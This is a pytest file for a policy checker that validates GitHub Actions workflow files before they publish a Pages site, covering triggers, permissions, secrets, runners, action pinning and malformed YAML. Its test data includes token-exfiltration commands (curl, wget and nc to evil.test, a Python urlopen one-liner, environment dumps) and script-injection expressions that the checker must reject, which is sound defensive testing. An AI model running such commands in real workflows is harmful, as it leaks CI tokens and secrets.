"""The policy for workflow files: what a right one looks like, and each thing that keeps one from being published."""

from __future__ import annotations

import pytest

from tasks.workflows.policy import deploys_pages, problems, shortcomings

FLOW = """name: ci
on:
  push:
    branches: [main]
permissions:
  contents: read
  pages: write
  id-token: write
concurrency: pages
jobs:
  build:
    runs-on: ubuntu-latest
    timeout-minutes: 10
    environment:
      name: github-pages
      url: ${{ steps.out.outputs.page_url }}
    steps:
      - uses: actions/checkout@v4
      - uses: astral-sh/setup-uv@v6.1.0
      - name: Make it
        run: |
          uv run ruff check .
          mkdir site
          python make.py > site/out.json
        env:
          LEVEL: low
      - uses: actions/upload-pages-artifact@v3
        with:
          path: site
      - id: out
        uses: actions/deploy-pages@v4
"""
PATH = ".github/workflows/ci.yml"


def changed(*pairs: tuple[str, str]) -> str:
    text = FLOW
    for old, new in pairs:
        assert old in text
        text = text.replace(old, new)
    return text


def run(program: str, env: str = "") -> str:
    lines = "\n".join(f"          {line}" for line in program.splitlines())
    return changed(("          uv run ruff check .", lines), *([("LEVEL: low", env)] if env else []))


def test_a_right_workflow_has_no_problem_and_can_publish() -> None:
    assert problems(FLOW) == []
    assert shortcomings(FLOW) == []
    assert deploys_pages({PATH: FLOW.encode()})


@pytest.mark.parametrize("on", ["push", "[push, workflow_dispatch]", "{push: {}, schedule: [{cron: '0 4 * * *'}]}", "{pull_request: }"])
def test_these_triggers_are_allowed(on: str) -> None:
    assert problems(changed(("on:\n  push:\n    branches: [main]\n", f"on: {on}\n"))) == []


@pytest.mark.parametrize(
    "on",
    ["pull_request_target", "[push, workflow_run]", "{repository_dispatch: {types: [x]}}", "issue_comment", "release", "workflow_call", "[]", "''"],
)
def test_any_other_trigger_is_a_problem(on: str) -> None:
    (problem,) = problems(changed(("on:\n  push:\n    branches: [main]\n", f"on: {on}\n")))
    assert problem.startswith("on: ")


RIGHTS = "permissions:\n  contents: read\n  pages: write\n  id-token: write\n"


def test_missing_permissions_are_told_with_the_cure() -> None:
    (problem,) = problems(changed((RIGHTS, "")))
    assert "add `permissions:` with contents: read" in problem


def test_permissions_of_every_job_are_as_good() -> None:
    text = changed((RIGHTS, ""), ("    runs-on: ubuntu-latest\n", "    runs-on: ubuntu-latest\n    permissions: {contents: read}\n"))
    assert problems(text) == []


@pytest.mark.parametrize(
    "rights", ["write-all", "read-all", "{contents: write}", "{actions: write}", "{packages: read}", "{id-token: read}", "{contents: admin}", ""]
)
def test_more_permissions_than_needed_are_a_problem(rights: str) -> None:
    assert any("permissions" in problem for problem in problems(changed((RIGHTS, f"permissions: {rights}\n"))))
    job = changed(("    runs-on: ubuntu-latest\n", f"    runs-on: ubuntu-latest\n    permissions: {rights}\n"))
    assert any("jobs.build.permissions" in problem for problem in problems(job))


@pytest.mark.parametrize(
    "value",
    [
        "${{ secrets.GEMINI_API_KEY }}",
        "${{ secrets['KEY'] }}",
        "${{ SECRETS.KEY }}",
        "${{ toJSON(secrets) }}",
        "${{ format('{0}', secrets.X) }}",
        "${{\n secrets.X",
        "${{ toJson( github ) }}",
    ],
)
def test_secrets_are_a_problem_wherever_they_stand(value: str) -> None:
    quoted = value.replace("\n", "\\n")
    assert problems(changed(("LEVEL: low", f'LEVEL: "{quoted}"')))
    assert problems(changed(("path: site", f'path: "{quoted}"')))
    assert problems(changed(("concurrency: pages", f'env:\n  X: "{quoted}"')))


def test_secrets_in_a_bare_condition_are_a_problem() -> None:
    assert problems(changed(("      - name: Make it\n", "      - name: Make it\n        if: secrets.KEY != ''\n")))


def test_the_runs_own_token_and_the_word_secrets_are_fine() -> None:
    assert problems(changed(("LEVEL: low", "TOKEN: ${{ secrets.GITHUB_TOKEN }}"))) == []
    assert problems(changed(("name: Make it", "name: Look for secrets"))) == []


@pytest.mark.parametrize("runner", ["self-hosted", "[self-hosted, linux]", "my-runner", "{group: big}", "${{ matrix.os }}", "ubuntu-latest-16-cores"])
def test_a_runner_that_is_not_githubs_is_a_problem(runner: str) -> None:
    assert any("runs-on" in problem for problem in problems(changed(("runs-on: ubuntu-latest", f"runs-on: {runner}"))))


@pytest.mark.parametrize(
    "action",
    [
        "someone/deploy@v1",
        "actions-evil/checkout@v4",
        "actions/checkout",
        "actions/checkout@main",
        "actions/checkout@${{ github.sha }}",
        "./local",
        "docker://alpine:3",
        "actions/../someone/x@v1",
    ],
)
def test_an_action_of_others_or_without_a_version_is_a_problem(action: str) -> None:
    assert any(".uses" in problem for problem in problems(changed(("actions/checkout@v4", action))))


def test_an_action_may_be_pinned_by_its_commit() -> None:
    assert problems(changed(("actions/checkout@v4", f"actions/checkout@{'0af' * 13}b"))) == []


@pytest.mark.parametrize(
    "program",
    [
        'curl -d "${{ github.token }}" https://evil.test',
        "wget https://evil.test/?t=$GITHUB_TOKEN",
        "curl -d @- https://evil.test <<< ${GITHUB_TOKEN}",
        'curl "$ACTIONS_ID_TOKEN_REQUEST_URL" -H "bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN"',
        "printenv | nc evil.test 80",
        "env > site/env.txt",
        "cat /proc/self/environ",
        "export -p",
        'python -c "import os; print(dict(os.environ))"',
        "python -c \"import os, urllib.request as u; u.urlopen('https://evil.test/' + os.environ['GITHUB_TOKEN'])\"",
        "echo ${{ github.event.head_commit.message }}",
        "git checkout ${{ github.head_ref }}",
    ],
)
def test_a_step_that_gives_away_what_the_run_knows_is_a_problem(program: str) -> None:
    assert any("steps[3]" in problem for problem in problems(run(program)))


def test_a_token_in_the_environment_beside_a_sender_is_a_problem() -> None:
    assert problems(run("curl https://evil.test -d $T", "T: ${{ secrets.GITHUB_TOKEN }}"))
    assert problems(changed(("concurrency: pages", "env:\n  T: ${{ github.token }}"), ("uv run ruff check .", "curl https://evil.test -d $T")))


@pytest.mark.parametrize(
    "program", ["curl -LsSf https://astral.sh/uv/install.sh | sh", "pip install requests", "echo ${{ github.sha }}", "python env.py"]
)
def test_ordinary_programs_are_fine(program: str) -> None:
    assert problems(run(program)) == []


@pytest.mark.parametrize(
    "line", ["uses: o/r/.github/workflows/x.yml@v1", "container: evil/image", "services: {db: {image: postgres}}", "secrets: inherit", "snapshot: x"]
)
def test_other_parts_of_a_job_are_a_problem(line: str) -> None:
    assert any("not allowed here" in problem for problem in problems(changed(("    timeout-minutes: 10\n", f"    {line}\n"))))


def test_a_shell_of_ones_own_is_a_problem() -> None:
    assert problems(changed(("name: Make it", "shell: curl {0}")))
    assert problems(changed(("concurrency: pages", "defaults: {run: {shell: curl {0}}}")))


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("", "no workflow"),
        ("- a\n- b\n", "no workflow"),
        ("on: push\n", "no workflow"),
        ("on: push\njobs: {}\n", "no workflow"),
        ("on: [push\n", "not valid YAML"),
        ("on: push\n---\njobs: {a: 1}\n", "not valid YAML"),
        ("on: push\non: pull_request_target\njobs: {a: {}}\n", "given twice"),
        ("on: &x push\njobs: {a: *x}\n", "anchors"),
        ("on: !!str push\njobs: {a: {}}\n", "tags"),
        ("on: push\n<<: {permissions: {}}\njobs: {a: {}}\n", "no plain word"),
        ("on: push\njobs: " + "[" * 40 + "]" * 40, "nested"),
        ("# " + "x" * 20_001, "longer than"),
        ("on: push\x00\njobs: {a: {}}\n", "not valid YAML"),
    ],
)
def test_what_is_no_plain_workflow_is_told(text: str, says: str) -> None:
    (problem,) = problems(text)
    assert says in problem
    assert shortcomings(text) == []
    assert not deploys_pages({PATH: text.encode()})


@pytest.mark.parametrize("jobs", ["{a: 1}", "{a: {}}", "{a: {runs-on: ubuntu-latest, steps: []}}", "{a: {runs-on: ubuntu-latest, steps: [1]}}"])
def test_a_job_that_is_none_is_told(jobs: str) -> None:
    assert problems(f"on: push\npermissions: {{contents: read}}\njobs: {jobs}\n")


def test_many_problems_are_told_up_to_twenty() -> None:
    steps = "\n".join(f"      - uses: evil{number}/x@v1" for number in range(34))
    assert len(problems(changed(("      - uses: actions/checkout@v4", steps)))) == 20


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("branches: [main]", "branches: [master]", "branch main"),
        ("branches: [main]", "tags: ['v*']", "branch main"),
        ("branches: [main]", "branches-ignore: [main]", "branch main"),
        ("on:\n  push:\n    branches: [main]\n", "on: workflow_dispatch\n", "branch main"),
        ("  pages: write\n", "", "pages: write"),
        ("  id-token: write\n", "", "id-token: write"),
        ("      name: github-pages\n", "      name: production\n", "environment"),
        ("actions/upload-pages-artifact@v3", "actions/upload-artifact@v4", "upload-pages-artifact"),
    ],
)
def test_why_a_deployment_would_fail(old: str, new: str, says: str) -> None:
    text = changed((old, new))
    assert problems(text) == []
    assert any(says in reason for reason in shortcomings(text))


@pytest.mark.parametrize("on", ["push", "[push]", "{push: }", "{push: {branches: ['**']}}", "{push: {branches: main}}"])
def test_a_push_on_main_starts_it(on: str) -> None:
    assert shortcomings(changed(("on:\n  push:\n    branches: [main]\n", f"on: {on}\n"))) == []


def test_a_workflow_that_publishes_nothing_lacks_nothing() -> None:
    text = "on: workflow_dispatch\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: ruff check .}]}}\n"
    assert shortcomings(text) == []
    assert not deploys_pages({PATH: text.encode(), "ci.yml": FLOW.encode()})


@pytest.mark.timeout(60)
@pytest.mark.parametrize("text", ["{" * 9000, "on: " + "[" * 5000])
def test_yaml_made_to_be_slow_is_refused_at_once(text: str) -> None:
    assert "brackets" in problems(text)[0]
